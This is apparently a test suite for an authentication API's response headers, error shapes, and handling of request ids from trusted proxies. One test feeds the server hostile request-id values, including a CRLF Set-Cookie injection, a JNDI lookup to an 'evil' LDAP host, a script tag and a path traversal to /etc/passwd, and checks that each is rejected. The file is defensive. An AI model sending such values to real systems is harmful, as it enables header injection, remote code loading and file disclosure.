/** The headers of every answer: rows H08, H09, H16, H19 and L24. What the HTTP parser answers is in test/e2e/http.test.ts. */

import type { TSchema } from "@sinclair/typebox";
import { Value } from "@sinclair/typebox/value";
import t from "tap";
import { form, goodPassword, testApp } from "../support/app.ts";

const expected = {
	"content-security-policy": "default-src 'none'; frame-ancestors 'none'",
	"cross-origin-resource-policy": "same-origin",
	"referrer-policy": "no-referrer",
	"x-content-type-options": "nosniff",
};

t.test("every answer", async (t) => {
	const schemas = new Map<string, Record<string, TSchema>>();
	const { app, get, tokenFor } = await testApp(t, {
		extend: (app) => {
			app.get("/throws", { config: { access: "public" } }, async () => {
				throw new Error("a fault");
			});
			app.get("/numbers/:number", { config: { access: "public" } }, async () => ({}));
			// The schemas as the routes declare them, for H16.
			app.addHook("onRequest", async ({ routeOptions: { schema, url } }) => {
				if (url && schema?.response) schemas.set(url, schema.response as Record<string, TSchema>);
			});
		},
	});
	const token = await tokenFor("root");
	const post = (url: string, body: ReturnType<typeof form>, more = {}) =>
		app.inject({ method: "POST", url, payload: body.payload, headers: { ...body.headers, ...more } });
	const authorization = `Bearer ${token}`;
	const current = { current_password: goodPassword, new_password: "walnut harbour sixteen lanterns" };
	const answers: [string, number, ReturnType<typeof get>][] = [
		["/login", 200, post("/login", form({ username: "root", password: goodPassword }))],
		["/login", 400, post("/login", form({}))],
		["/login", 401, post("/login", form({ username: "nobody", password: "x" }))],
		["/login", 403, post("/login", form({}), { origin: "null" })],
		["/login", 405, get("/login")],
		["/login", 405, app.inject({ method: "TRACE" as "GET", url: "/login" })],
		["/login", 405, app.inject({ method: "OPTIONS", url: "/login" })],
		["/login", 413, post("/login", form({ username: "a".repeat(17_000) }))],
		["/login", 415, post("/login", { payload: "x", headers: { "content-type": "text/plain" } })],
		["/protected", 200, get("/protected", token)],
		["/protected", 200, app.inject({ method: "HEAD", url: "/protected", headers: { authorization } })],
		["/protected", 401, get("/protected")],
		["/me", 200, get("/me", token)],
		["/me", 401, get("/me", "x")],
		["/livez", 200, get("/livez")],
		["/readyz", 200, get("/readyz")],
		["/.well-known/jwks.json", 200, get("/.well-known/jwks.json")],
		["/.well-known/jwks.json", 304, app.inject({ url: "/.well-known/jwks.json", headers: { "if-none-match": "*" } })],
		["/.well-known/oauth-authorization-server", 200, get("/.well-known/oauth-authorization-server")],
		["/password", 400, post("/password", form({ ...current, new_password: "short" }), { authorization })],
		["/password", 204, post("/password", form(current), { authorization })],
		["/docs/json", 200, get("/docs/json")],
		["nothing", 404, get("/nothing")],
		["the router", 400, get("/%zz")],
		["the router", 414, get(`/numbers/${"1".repeat(101)}`)],
		["a fault", 500, get("/throws")],
	];

	for (const [url, statusCode, pending] of answers) {
		const answer = await pending;
		const what = `${answer.raw.req.method} ${url} ${statusCode}`;
		await t.test(`H08, H09, H16: ${what}`, async (t) => {
			const { headers, body } = answer;
			t.equal(answer.statusCode, statusCode);
			// The page at /docs may load its own scripts; its policy is looked at below.
			t.match(
				headers,
				url.startsWith("/docs") ? { ...expected, "content-security-policy": /^default-src 'none';/ } : expected,
			);
			t.match(headers["strict-transport-security"], /^max-age=\d{8,}/);
			t.match(headers["x-request-id"], /^[\w.-]{1,64}$/);
			t.match(headers["cache-control"], url.startsWith("/.well-known") ? "public, max-age=300" : "no-store");
			for (const name of ["server", "x-powered-by", "access-control-allow-origin", "set-cookie"])
				t.equal(headers[name], undefined, name);
			if (body !== "") t.match(headers["content-type"], /^application\/[\w+-]+; charset=utf-8$/, "H09");
			if (statusCode === 401) t.match(headers["www-authenticate"], /^Bearer/);
			if (statusCode === 405) t.ok(headers.allow);
			if (body === "" || url === "/docs/json") return;
			if (statusCode >= 400)
				t.strictSame(
					Object.keys(answer.json()).sort(),
					["code", "error", "message", "statusCode"],
					"H16: the one shape",
				);
			const schema = schemas.get(url)?.[statusCode];
			if (statusCode < 400) t.ok(schema, "H16: the route declares its answer");
			if (schema && !url.endsWith("jwks.json")) {
				t.equal((schema as { additionalProperties?: boolean }).additionalProperties, false, "H16: a closed schema");
				t.ok(Value.Check(schema, answer.json()), "H16: only documented fields");
			}
		});
	}
});

t.test("H08: the page at /docs keeps every other origin out, too", async (t) => {
	const { get } = await testApp(t);
	const page = await get("/docs");
	t.equal(page.statusCode, 200);
	t.match(page.headers["content-security-policy"], /default-src 'none'|default-src 'self'/);
	t.match(page.headers["content-security-policy"], /frame-ancestors 'none'/);
	t.match(page.headers["x-content-type-options"], "nosniff");
	t.match(page.headers["content-type"], /^text\/html; charset=utf-8$/);
});

t.test("H19: a trusted proxy's request id is used where it is short and plain, and replaced otherwise", async (t) => {
	const house = await testApp(t, { settings: { TRUST_PROXY: "10.0.0.0/8,2001:db8::7,127.0.0.1" } });
	const ask = (id: string, remoteAddress = "127.0.0.1") =>
		house.app.inject({ url: "/nothing", headers: { "x-request-id": id }, remoteAddress });
	for (const id of ["a", "9f.A_b-0", "x".repeat(64), "0af7651916cd43dd8448eb211c80319c"])
		t.equal((await ask(id)).headers["x-request-id"], id);
	const bad = [
		...[
			"",
			" ",
			"a b",
			"x".repeat(65),
			"x".repeat(10_000),
			"a\r\nSet-Cookie: b=c",
			"a\nb",
			"\u0024{jndi:ldap://evil/a}",
		],
		...["<script>", "\u001b[31m", "a\u0000", "\u00e9", "a,b", "../../etc/passwd", '"', "{}"],
	];
	for (const id of bad) {
		const { headers } = await ask(id);
		t.match(headers["x-request-id"], /^[\w-]{12}-[\da-z]+$/, JSON.stringify(id.slice(0, 20)));
		t.equal(headers["set-cookie"], undefined);
	}
	const ids = house.logged.map(({ reqId }) => reqId).filter(Boolean);
	t.equal(ids.length, 4 + bad.length);
	t.equal(new Set(ids).size, ids.length, "each its own");
	for (const proxy of ["10.1.2.3", "::ffff:10.1.2.3", "2001:db8::7"])
		t.equal((await ask("from-a-proxy", proxy)).headers["x-request-id"], "from-a-proxy", proxy);
	for (const stranger of ["192.0.2.1", "::ffff:192.0.2.1", "2001:db8::8", "::1"])
		t.not((await ask("from-a-stranger", stranger)).headers["x-request-id"], "from-a-stranger", stranger);
	t.notMatch(house.rawLog(), /from-a-stranger/);
});

t.test("G01: without TRUST_PROXY nobody names a request, neither in the answer nor in the log", async (t) => {
	const house = await testApp(t);
	const headers = { "x-request-id": "somebody-elses", "x-forwarded-for": "192.0.2.66" };
	const answer = await house.app.inject({ url: "/me", headers });
	t.match(answer.headers["x-request-id"], /^[\w-]{12}-[\da-z]+$/);
	const line = house.logged.find(({ reqId }) => reqId === answer.headers["x-request-id"]);
	t.match(line, { code: "AUTHENTICATION_REQUIRED", address: "127.0.0.1" });
	t.notMatch(house.rawLog(), /somebody-elses|192\.0\.2\.66/);
});
